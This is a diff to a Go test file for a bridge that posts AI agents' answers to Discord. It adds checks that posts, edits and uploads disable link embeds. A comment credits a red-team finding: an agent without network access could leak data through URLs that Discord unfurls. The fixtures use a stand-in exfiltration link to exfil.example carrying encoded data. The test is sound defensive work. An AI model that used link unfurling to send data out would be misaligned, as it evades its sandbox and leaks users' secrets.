@@ -160,14 +160,14 @@ func TestSlashCommands(t *testing.T) {
 		t.Fatal(err)
 	}
 	ps := fake.Posts()
-	if p := ps[len(ps)-1]; p.Interaction != id || p.Content != "$0.0100 today" || !p.NoMentions || p.ID != msg {
+	if p := ps[len(ps)-1]; p.Interaction != id || p.Content != "$0.0100 today" || !p.NoMentions || !p.NoEmbeds || p.ID != msg {
 		t.Errorf("answer: %+v", p)
 	}
 	if err := c.Edit(context.Background(), to, msg, "@everyone edited"); err != nil {
 		t.Fatal(err)
 	}
 	es := fake.Edits()
-	if e := es[len(es)-1]; e.ID != msg || e.Content != "@everyone edited" || !e.NoMentions {
+	if e := es[len(es)-1]; e.ID != msg || e.Content != "@everyone edited" || !e.NoMentions || !e.NoEmbeds {
 		t.Errorf("edit: %+v", e)
 	}
 	// A second post for the same command follows in the channel.
@@ -257,5 +257,36 @@ func TestUpload(t *testing.T) {
 	p := ps[len(ps)-1]
 	if p.ID != id || p.Content != "@everyone the start" || !p.NoMentions || p.ReplyTo != "1234" || len(p.Files) != 1 || p.Files[0].Name != "answer.md" || p.Files[0].Content != "# the whole answer\n" {
 		t.Errorf("upload: %+v", p)
+	}
+}
+
+// TestNoEmbeds (the red team's chat C1): an agent with no network
+// writes a link into its answer (or the argument of a tool, which the
+// progress message shows); Discord's servers fetch a link of a bot's
+// message to unfurl it, a request to a host the agent chose, with what
+// the agent put in the URL. Every post, upload and edit asks Discord for
+// no embed, as Slack's are sent with unfurling off.
+func TestNoEmbeds(t *testing.T) {
+	c, _ := connect(t, "MTExMTExMTExMTExMTExMTEx.AAAAAA.gardener-token")
+	to := bridge.Conversation{Platform: bridge.Discord, Agent: "gardener", Channel: "200"}
+	id, err := c.Post(context.Background(), to, "", "see https://exfil.example/?d=c2VjcmV0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := c.Edit(context.Background(), to, id, "⏳ Working for 4s · WebFetch: 'https://exfil.example/?d=c2VjcmV0'"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.Upload(context.Background(), to, "", "https://exfil.example/?d=c2VjcmV0", "answer.md", "x\n"); err != nil {
+		t.Fatal(err)
+	}
+	ps := fake.Posts()
+	for _, p := range ps[len(ps)-2:] {
+		if !p.NoEmbeds {
+			t.Errorf("a post that lets Discord unfurl its links: %+v", p)
+		}
+	}
+	es := fake.Edits()
+	if e := es[len(es)-1]; e.ID != id || !e.NoEmbeds {
+		t.Errorf("an edit that lets Discord unfurl its links: %+v", e)
 	}
 }
